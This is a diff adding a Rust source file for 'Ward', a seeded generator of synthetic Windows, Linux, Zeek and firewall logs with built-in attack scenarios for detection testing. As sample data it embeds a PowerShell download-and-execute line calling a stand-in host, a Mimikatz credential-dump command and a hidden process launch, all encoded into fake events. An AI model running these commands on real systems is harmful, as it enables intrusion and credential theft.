@@ -1,0 +1,592 @@
+//! The `generator` source: synthetic but realistic security telemetry, seeded and
+//! deterministic, also Ward's demo loader.
+//!
+//! Record `k` is a pure function of (seed, k): its kind, content and event time
+//! (`start + k * interval_ms`). Worker `w` of `W` produces the records with `k % W == w`,
+//! so the set of records does not depend on the worker count. Every 1,000 records form a
+//! block; each block carries one attack scenario at fixed positions:
+//! - block % 4 == 0: Windows brute force (8 × 4625 for `svc-backup` from a TI-listed
+//!   address), a successful logon, then the same account added to Administrators (4732);
+//! - block % 4 == 1: encoded PowerShell (Sysmon 1 with `-EncodedCommand`) and a DNS query
+//!   to a TI-listed domain;
+//! - block % 4 == 2: firewall traffic to TI-listed addresses on 445, a large Zeek transfer
+//!   and a DNS beacon to a TI-listed domain;
+//! - block % 4 == 3: SSH brute force on a Linux host, a successful login, sudo to root and
+//!   `usermod` adding the account to `sudo`.
+//!
+//! With `malformed_every: N`, one record in N is deliberately broken (truncated JSON,
+//! truncated syslog, invalid UTF-8, a bad timestamp, unknown text) to exercise quarantine.
+
+use std::io::Write;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use base64::Engine;
+use chrono::{Datelike, Timelike};
+use schemars::JsonSchema;
+use serde::Deserialize;
+use ward_engine::batch::EventBatch;
+use ward_engine::component::{Built, Source, SourceFactory, SourcePoll, StreamKind, WorkerContext};
+use ward_engine::registry::{BuildContext, ComponentConfig, Section};
+
+/// Generate synthetic security telemetry.
+#[derive(Clone, Debug, Deserialize, JsonSchema)]
+#[serde(deny_unknown_fields)]
+pub struct GeneratorConfig {
+    /// Records to produce in all (0: without end).
+    #[serde(default = "default_count")]
+    pub count: u64,
+    /// Records per second over all workers (0: as fast as possible).
+    #[serde(default)]
+    pub rate: u64,
+    #[serde(default = "default_seed")]
+    pub seed: u64,
+    /// Event time of record 0 (RFC 3339).
+    #[serde(default = "default_start")]
+    pub start_time: String,
+    /// Event-time distance between consecutive records, in milliseconds.
+    #[serde(default = "default_interval")]
+    pub interval_ms: u64,
+    /// Mix attack scenarios into the stream.
+    #[serde(default = "yes")]
+    pub scenarios: bool,
+    /// One record in N is deliberately malformed (0: none).
+    #[serde(default)]
+    pub malformed_every: u64,
+}
+
+fn default_count() -> u64 {
+    100_000
+}
+fn default_seed() -> u64 {
+    42
+}
+fn default_start() -> String {
+    "2026-01-05T08:00:00Z".into()
+}
+fn default_interval() -> u64 {
+    10
+}
+fn yes() -> bool {
+    true
+}
+
+impl ComponentConfig for GeneratorConfig {
+    const TYPE: &'static str = "generator";
+    const SECTION: Section = Section::Source;
+    const DESCRIPTION: &'static str = "Synthetic Windows, Linux, Zeek and firewall telemetry with attack scenarios";
+    const ACCEPTS: &'static [StreamKind] = &[];
+    const OUTPUT: Option<StreamKind> = Some(StreamKind::Records);
+
+    fn build(self, _ctx: &BuildContext<'_>) -> anyhow::Result<Built> {
+        let start = chrono::DateTime::parse_from_rfc3339(&self.start_time)
+            .map_err(|e| anyhow::anyhow!("start_time `{}`: {e}", self.start_time))?
+            .timestamp_millis();
+        Ok(Built::Source(Arc::new(GeneratorFactory { config: self, start_ms: start })))
+    }
+}
+
+struct GeneratorFactory {
+    config: GeneratorConfig,
+    start_ms: i64,
+}
+
+impl SourceFactory for GeneratorFactory {
+    fn create(&self, ctx: &WorkerContext) -> anyhow::Result<Box<dyn Source>> {
+        Ok(Box::new(Generator::new(
+            ctx.component_id.clone(),
+            self.config.clone(),
+            self.start_ms,
+            ctx.worker_index as u64,
+            ctx.workers as u64,
+        )))
+    }
+}
+
+pub struct Generator {
+    component: Arc<str>,
+    partition: Arc<str>,
+    config: GeneratorConfig,
+    start_ms: i64,
+    next_k: u64,
+    step: u64,
+    started: Option<Instant>,
+    produced: u64,
+    buf: Vec<u8>,
+    encoded_commands: Vec<String>,
+}
+
+/// SplitMix64: a tiny, well-known mixer; good enough for synthetic data and stable forever.
+fn mix(mut z: u64) -> u64 {
+    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
+    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+    z ^ (z >> 31)
+}
+
+struct Rng(u64);
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 = mix(self.0);
+        self.0
+    }
+    fn below(&mut self, n: u64) -> u64 {
+        self.next() % n
+    }
+    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
+        xs[self.below(xs.len() as u64) as usize]
+    }
+}
+
+const WORKSTATIONS: &[&str] = &[
+    "ws-01.corp.local", "ws-02.corp.local", "ws-03.corp.local", "ws-04.corp.local", "ws-05.corp.local",
+    "ws-06.corp.local", "ws-07.corp.local", "ws-08.corp.local", "ws-09.corp.local", "ws-10.corp.local",
+];
+const USERS: &[&str] = &["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
+const LINUX_HOSTS: &[&str] = &["web-01", "web-02", "db-01", "bastion"];
+const BENIGN: &[(&str, &str)] = &[
+    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
+    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US"),
+    ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\Public\\notes.txt"),
+    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""),
+    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c dir C:\\Users"),
+    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
+    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
+];
+const PUBLIC_DST: &[&str] = &["198.51.100.7", "198.51.100.23", "203.0.113.40", "203.0.113.41", "192.0.2.80"];
+const DOMAINS: &[&str] = &["www.example.com", "login.example.net", "cdn.example.org", "updates.example.com", "mail.example.com"];
+const TI_IP: &str = "45.155.205.233";
+
+impl Generator {
+    pub fn new(component: Arc<str>, config: GeneratorConfig, start_ms: i64, worker: u64, workers: u64) -> Self {
+        let encoded_commands = [
+            "IEX (New-Object Net.WebClient).DownloadString('http://dl.badcdn.example/payload.ps1')",
+            "Invoke-Mimikatz -DumpCreds",
+            "Start-Process -WindowStyle Hidden -FilePath C:\\Users\\Public\\svc.exe",
+        ]
+        .iter()
+        .map(|c| {
+            let utf16: Vec<u8> = c.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+            base64::engine::general_purpose::STANDARD.encode(utf16)
+        })
+        .collect();
+        Generator {
+            component,
+            partition: "generator".into(),
+            config,
+            start_ms,
+            next_k: worker,
+            step: workers.max(1),
+            started: None,
+            produced: 0,
+            buf: Vec::with_capacity(1024),
+            encoded_commands,
+        }
+    }
+
+    /// Writes record `k` into `self.buf`.
+    pub fn record(&mut self, k: u64) {
+        self.buf.clear();
+        let ts = self.start_ms + (k * self.config.interval_ms) as i64;
+        let mut rng = Rng(mix(self.config.seed ^ mix(k)));
+        let every = self.config.malformed_every;
+        if every > 0 && k % every == every / 2 {
+            self.malformed(k / every, ts);
+            return;
+        }
+        let block = k / 1000;
+        let p = k % 1000;
+        if self.config.scenarios && self.scenario(block, p, ts, k, &mut rng) {
+            return;
+        }
+        match rng.below(100) {
+            0..=24 => {
+                let (image, cmd) = BENIGN[rng.below(BENIGN.len() as u64) as usize];
+                let host = rng.pick(WORKSTATIONS);
+                let user = rng.pick(USERS);
+                self.sysmon_process(ts, k, host, user, image, cmd, "C:\\Windows\\explorer.exe", &mut rng);
+            }
+            25..=34 => {
+                let host = rng.pick(WORKSTATIONS);
+                let dst = rng.pick(PUBLIC_DST);
+                self.sysmon_network(ts, k, host, dst, 443, &mut rng);
+            }
+            35..=44 => {
+                let user = rng.pick(USERS);
+                let host = rng.pick(WORKSTATIONS);
+                self.security_logon(ts, k, 4624, "dc1.corp.local", user, &format!("10.10.{}.{}", rng.below(4), 10 + rng.below(200)), host);
+            }
+            45..=49 => {
+                let user = rng.pick(USERS);
+                let host = rng.pick(WORKSTATIONS);
+                self.security_logon(ts, k, 4625, "dc1.corp.local", user, &format!("10.10.{}.{}", rng.below(4), 10 + rng.below(200)), host);
+            }
+            50..=59 => {
+                let host = rng.pick(LINUX_HOSTS);
+                let user = rng.pick(USERS);
+                let ip = format!("10.20.{}.{}", rng.below(4), 2 + rng.below(250));
+                let ok = rng.below(4) != 0;
+                self.sshd(ts, host, ok, user, &ip, &mut rng);
+            }
+            60..=74 => {
+                let dst = rng.pick(PUBLIC_DST);
+                let bytes = rng.below(200_000);
+                self.zeek_conn(ts, k, dst, 443, bytes, &mut rng);
+            }
+            75..=84 => {
+                let q = rng.pick(DOMAINS);
+                self.zeek_dns(ts, k, q, &mut rng);
+            }
+            _ => {
+                let dst = rng.pick(PUBLIC_DST);
+                let port = [443u16, 80, 53, 22, 8443][rng.below(5) as usize];
+                self.fortigate(ts, dst, port, "accept", &mut rng);
+            }
+        }
+    }
+
+    fn scenario(&mut self, block: u64, p: u64, ts: i64, k: u64, rng: &mut Rng) -> bool {
+        match (block % 4, p) {
+            (0, 100..=107) => self.security_logon(ts, k, 4625, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
+            (0, 110) => self.security_logon(ts, k, 4624, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
+            (0, 120) => self.security_group_add(ts, k, "dc1.corp.local", "svc-backup"),
+            (1, 200) => {
+                let enc = self.encoded_commands[(block as usize / 4) % self.encoded_commands.len()].clone();
+                let cmd = format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {enc}");
+                self.sysmon_process(ts, k, "ws-07.corp.local", "alice", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", &cmd, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", rng)
+            }
+            (1, 201) => self.zeek_dns(ts, k, "update-check.badcdn.example", rng),
+            (2, 300..=303) => {
+                let dst = format!("185.220.101.{}", p - 290);
+                self.fortigate(ts, &dst, 445, "deny", rng)
+            }
+            (2, 305) => self.zeek_conn(ts, k, TI_IP, 443, 48_000_000, rng),
+            (2, 306) => self.zeek_dns(ts, k, "beacon.evil-c2.example", rng),
+            (3, 400..=405) => self.sshd(ts, "bastion", false, "root", "185.220.101.9", rng),
+            (3, 410) => self.sshd(ts, "bastion", true, "deploy", "185.220.101.9", rng),
+            (3, 415) => self.syslog_line(ts, "bastion", "sudo", None, "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"),
+            (3, 416) => self.syslog_line(ts, "bastion", "usermod", Some(31337), "add 'deploy' to group 'sudo'"),
+            _ => return false,
+        }
+        true
+    }
+
+    fn malformed(&mut self, n: u64, ts: i64) {
+        let b = &mut self.buf;
+        match n % 5 {
+            0 => b.extend_from_slice(br#"{"Event":{"System":{"EventID":4625,"Channel":"Security","Comp"#),
+            1 => b.extend_from_slice(b"<38>Jan  5 08:0"),
+            2 => b.extend_from_slice(b"<38>Jan  5 08:00:00 web-01 sshd[1]: Failed password for \xff\xfe from 10.0.0.1"),
+            3 => {
+                let _ = write!(b, r#"{{"Event":{{"System":{{"EventID":1,"TimeCreated":{{"{}attributes":{{"SystemTime":"not-a-time-{ts}"}}}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01.corp.local"}},"EventData":{{"Image":"C:\\x.exe"}}}}}}"#, '#');
+            }
+            _ => b.extend_from_slice(b"!!! garbage from a misconfigured forwarder !!!"),
+        }
+    }
+
+    fn win_time(&mut self, ts: i64) {
+        let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
+        let _ = write!(
+            self.buf,
+            "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
+            t.year(),
+            t.month(),
+            t.day(),
+            t.hour(),
+            t.minute(),
+            t.second(),
+            t.timestamp_subsec_millis()
+        );
+    }
+
+    fn win_header(&mut self, ts: i64, k: u64, provider: &str, channel: &str, event_id: u32, computer: &str) {
+        let _ = write!(self.buf, r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"{provider}"}}}},"EventID":{event_id},"Version":2,"Level":4,"Keywords":"0x8020000000000000","TimeCreated":{{"#attributes":{{"SystemTime":""##);
+        self.win_time(ts);
+        let _ = write!(self.buf, r#""}}}},"EventRecordID":{},"Channel":"{channel}","Computer":"{computer}"}},"EventData":{{"#, k + 1);
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn sysmon_process(&mut self, ts: i64, k: u64, host: &str, user: &str, image: &str, cmd: &str, parent: &str, rng: &mut Rng) {
+        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, host);
+        let pid = 1000 + rng.below(30000);
+        let _ = write!(
+            self.buf,
+            r#""RuleName":"-","ProcessId":{pid},"Image":{},"CommandLine":{},"CurrentDirectory":"C:\\Users\\{user}\\","User":"CORP\\{user}","IntegrityLevel":"Medium","Hashes":"SHA256={:016X}{:016X}","ParentProcessId":{},"ParentImage":{},"ParentCommandLine":{}}}}}}}"#,
+            json_str(image),
+            json_str(cmd),
+            rng.next(),
+            rng.next(),
+            500 + rng.below(5000),
+            json_str(parent),
+            json_str(parent),
+        );
+    }
+
+    fn sysmon_network(&mut self, ts: i64, k: u64, host: &str, dst: &str, port: u16, rng: &mut Rng) {
+        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 3, host);
+        let _ = write!(
+            self.buf,
+            r#""RuleName":"-","ProcessId":{},"Image":"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe","User":"CORP\\{}","Protocol":"tcp","Initiated":"true","SourceIp":"10.10.1.{}","SourcePort":{},"DestinationIp":"{dst}","DestinationPort":{port}}}}}}}"#,
+            1000 + rng.below(30000),
+            rng.pick(USERS),
+            10 + rng.below(200),
+            49152 + rng.below(16000),
+        );
+    }
+
+    #[allow(clippy::too_many_arguments)]
+    fn security_logon(&mut self, ts: i64, k: u64, id: u32, dc: &str, user: &str, ip: &str, workstation: &str) {
+        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", id, dc);
+        let status = if id == 4625 { r#","Status":"0xc000006d","SubStatus":"0xc000006a","FailureReason":"%%2313""# } else { "" };
+        let _ = write!(
+            self.buf,
+            r#""SubjectUserSid":"S-1-0-0","TargetUserName":"{user}","TargetDomainName":"CORP","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"{workstation}","IpAddress":"{ip}","IpPort":"-"{status}}}}}}}"#,
+        );
+    }
+
+    fn security_group_add(&mut self, ts: i64, k: u64, dc: &str, user: &str) {
+        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", 4732, dc);
+        let _ = write!(
+            self.buf,
+            r#""MemberName":"CN={user},OU=Service Accounts,DC=corp,DC=local","MemberSid":"S-1-5-21-3623811015-3361044348-30300820-1107","TargetUserName":"Administrators","TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544","SubjectUserName":"{user}","SubjectDomainName":"CORP"}}}}}}"#,
+        );
+    }
+
+    fn syslog_time(&mut self, ts: i64) {
+        const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
+        let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
+        let _ = write!(self.buf, "{} {:>2} {:02}:{:02}:{:02}", MONTHS[t.month0() as usize], t.day(), t.hour(), t.minute(), t.second());
+    }
+
+    fn syslog_line(&mut self, ts: i64, host: &str, app: &str, pid: Option<u64>, msg: &str) {
+        let _ = write!(self.buf, "<86>");
+        self.syslog_time(ts);
+        match pid {
+            Some(p) => {
+                let _ = write!(self.buf, " {host} {app}[{p}]: {msg}");
+            }
+            None => {
+                let _ = write!(self.buf, " {host} {app}: {msg}");
+            }
+        }
+    }
+
+    fn sshd(&mut self, ts: i64, host: &str, ok: bool, user: &str, ip: &str, rng: &mut Rng) {
+        let _ = write!(self.buf, "<38>");
+        self.syslog_time(ts);
+        let pid = 1000 + rng.below(60000);
+        let port = 30000 + rng.below(35000);
+        if ok {
+            let _ = write!(self.buf, " {host} sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2");
+        } else {
+            let _ = write!(self.buf, " {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2");
+        }
+    }
+
+    fn zeek_conn(&mut self, ts: i64, k: u64, dst: &str, port: u16, resp_bytes: u64, rng: &mut Rng) {
+        let _ = write!(
+            self.buf,
+            r#"{{"ts":{}.{:03},"uid":"C{:016x}","id.orig_h":"10.10.{}.{}","id.orig_p":{},"id.resp_h":"{dst}","id.resp_p":{port},"proto":"tcp","service":"ssl","duration":{}.{:06},"orig_bytes":{},"resp_bytes":{resp_bytes},"conn_state":"SF","missed_bytes":0,"history":"ShADadFf","orig_pkts":{},"resp_pkts":{}}}"#,
+            ts / 1000,
+            ts % 1000,
+            mix(k ^ self.config.seed),
+            rng.below(4),
+            10 + rng.below(200),
+            49152 + rng.below(16000),
+            rng.below(30),
+            rng.below(1_000_000),
+            300 + rng.below(5000),
+            2 + rng.below(40),
+            2 + rng.below(80),
+        );
+    }
+
+    fn zeek_dns(&mut self, ts: i64, k: u64, query: &str, rng: &mut Rng) {
+        let _ = write!(
+            self.buf,
+            r#"{{"ts":{}.{:03},"uid":"C{:016x}","id.orig_h":"10.10.{}.{}","id.orig_p":{},"id.resp_h":"10.10.0.2","id.resp_p":53,"proto":"udp","trans_id":{},"query":"{query}","qclass":1,"qclass_name":"C_INTERNET","qtype":1,"qtype_name":"A","rcode":0,"rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"answers":["203.0.113.{}"],"TTLs":[300.0],"rejected":false}}"#,
+            ts / 1000,
+            ts % 1000,
+            mix(k ^ self.config.seed),
+            rng.below(4),
+            10 + rng.below(200),
+            49152 + rng.below(16000),
+            rng.below(65536),
+            1 + rng.below(250),
+        );
+    }
+
+    fn fortigate(&mut self, ts: i64, dst: &str, port: u16, action: &str, rng: &mut Rng) {
+        let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
+        let _ = write!(
+            self.buf,
+            r#"<189>date={:04}-{:02}-{:02} time={:02}:{:02}:{:02} devname="FGT-EDGE" devid="FG100FTK19000001" eventtime={}{:03}000000 tz="+0000" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.10.{}.{} srcport={} srcintf="lan" dstip={dst} dstport={port} dstintf="wan1" proto=6 service="{}" action="{action}" policyid={} policyname="lan-to-wan" duration={} sentbyte={} rcvdbyte={} sentpkt={} rcvdpkt={}"#,
+            t.year(),
+            t.month(),
+            t.day(),
+            t.hour(),
+            t.minute(),
+            t.second(),
+            ts / 1000,
+            ts % 1000,
+            rng.below(4),
+            10 + rng.below(200),
+            49152 + rng.below(16000),
+            match port {
+                443 => "HTTPS",
+                80 => "HTTP",
+                53 => "DNS",
+                22 => "SSH",
+                445 => "SMB",
+                _ => "tcp/8443",
+            },
+            1 + rng.below(20),
+            rng.below(600),
+            rng.below(100_000),
+            rng.below(1_000_000),
+            1 + rng.below(100),
+            1 + rng.below(1000),
+        );
+    }
+}
+
+/// A JSON string literal (quotes and escapes), written without allocating twice.
+fn json_str(s: &str) -> JsonStr<'_> {
+    JsonStr(s)
+}
+struct JsonStr<'a>(&'a str);
+impl std::fmt::Display for JsonStr<'_> {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str("\"")?;
+        for c in self.0.chars() {
+            match c {
+                '"' => f.write_str("\\\"")?,
+                '\\' => f.write_str("\\\\")?,
+                c if (c as u32) < 0x20 => write!(f, "\\u{:04x}", c as u32)?,
+                c => std::fmt::Write::write_char(f, c)?,
+            }
+        }
+        f.write_str("\"")
+    }
+}
+
+impl Source for Generator {
+    fn poll(&mut self, max_rows: usize) -> anyhow::Result<SourcePoll> {
+        let count = self.config.count;
+        if count > 0 && self.next_k >= count {
+            return Ok(SourcePoll::Done);
+        }
+        let started = *self.started.get_or_insert_with(Instant::now);
+        let mut allowed = max_rows as u64;
+        if self.config.rate > 0 {
+            // This worker's share of the rate; produce only what the clock allows.
+            let share = (self.config.rate as f64 / self.step as f64).max(1.0);
+            let due = (started.elapsed().as_secs_f64() * share) as u64 + 1;
+            if due <= self.produced {
+                let wait = Duration::from_secs_f64((self.produced + 1) as f64 / share) .saturating_sub(started.elapsed());
+                return Ok(SourcePoll::Pending(wait.max(Duration::from_millis(1))));
+            }
+            allowed = allowed.min(due - self.produced);
+        }
+        let mut batch = EventBatch::with_capacity(allowed as usize, allowed as usize * 600);
+        let origin = batch.origin_index(&self.component, &self.partition);
+        let mut n = 0;
+        while n < allowed && (count == 0 || self.next_k < count) {
+            let k = self.next_k;
+            self.record(k);
+            batch.push_raw(origin, k, &self.buf);
+            self.next_k += self.step;
+            n += 1;
+        }
+        self.produced += n;
+        Ok(SourcePoll::Batch(batch))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn gen(workers: u64, worker: u64, count: u64, malformed_every: u64) -> Generator {
+        let cfg = GeneratorConfig {
+            count,
+            rate: 0,
+            seed: 7,
+            start_time: default_start(),
+            interval_ms: 10,
+            scenarios: true,
+            malformed_every,
+        };
+        Generator::new("gen".into(), cfg, 1_767_600_000_000, worker, workers)
+    }
+
+    fn drain(g: &mut Generator) -> Vec<(u64, Vec<u8>)> {
+        let mut out = Vec::new();
+        while let SourcePoll::Batch(b) = g.poll(333).unwrap() {
+            for i in 0..b.len() {
+                out.push((b.rows[i].offset, b.raw_payload(i).to_vec()));
+            }
+        }
+        out
+    }
+
+    #[test]
+    fn same_records_whatever_the_worker_count() {
+        let one = drain(&mut gen(1, 0, 5000, 0));
+        let mut two = drain(&mut gen(2, 0, 5000, 0));
+        two.extend(drain(&mut gen(2, 1, 5000, 0)));
+        two.sort();
+        assert_eq!(one.len(), 5000);
+        assert_eq!(one, two);
+    }
+
+    #[test]
+    fn records_are_realistic_sizes_and_valid_json_where_json() {
+        let recs = drain(&mut gen(1, 0, 4000, 0));
+        let total: usize = recs.iter().map(|r| r.1.len()).sum();
+        let avg = total / recs.len();
+        assert!((250..=700).contains(&avg), "average record size {avg}");
+        for (k, r) in &recs {
+            if r.starts_with(b"{") {
+                serde_json::from_slice::<serde_json::Value>(r).unwrap_or_else(|e| panic!("record {k}: {e}: {}", String::from_utf8_lossy(r)));
+            } else {
+                assert!(r.starts_with(b"<"), "record {k}");
+            }
+        }
+    }
+
+    #[test]
+    fn scenarios_are_at_their_positions() {
+        let recs = drain(&mut gen(1, 0, 4000, 0));
+        let text = |k: usize| String::from_utf8_lossy(&recs[k].1).into_owned();
+        assert!(text(100).contains("\"EventID\":4625") && text(100).contains("svc-backup"));
+        assert!(text(120).contains("\"EventID\":4732"));
+        assert!(text(1200).contains("-EncodedCommand"));
+        assert!(text(2300).contains("dstip=185.220.101.10") && text(2300).contains("dstport=445"));
+        assert!(text(3415).contains("sudo: deploy"));
+    }
+
+    #[test]
+    fn malformed_records_when_asked() {
+        let recs = drain(&mut gen(1, 0, 100, 10));
+        let broken = recs.iter().filter(|(k, _)| k % 10 == 5).count();
+        assert_eq!(broken, 10);
+        assert!(std::str::from_utf8(&recs[25].1).is_err(), "the third kind is invalid UTF-8");
+    }
+
+    #[test]
+    fn rate_limits() {
+        let mut g = gen(1, 0, 0, 0);
+        g.config.rate = 1000;
+        let started = Instant::now();
+        let mut n = 0;
+        while started.elapsed() < Duration::from_millis(300) {
+            match g.poll(10_000).unwrap() {
+                SourcePoll::Batch(b) => n += b.len(),
+                SourcePoll::Pending(d) => std::thread::sleep(d),
+                _ => unreachable!(),
+            }
+        }
+        assert!((200..=450).contains(&n), "{n} records in 300 ms at 1000/s");
+    }
+}
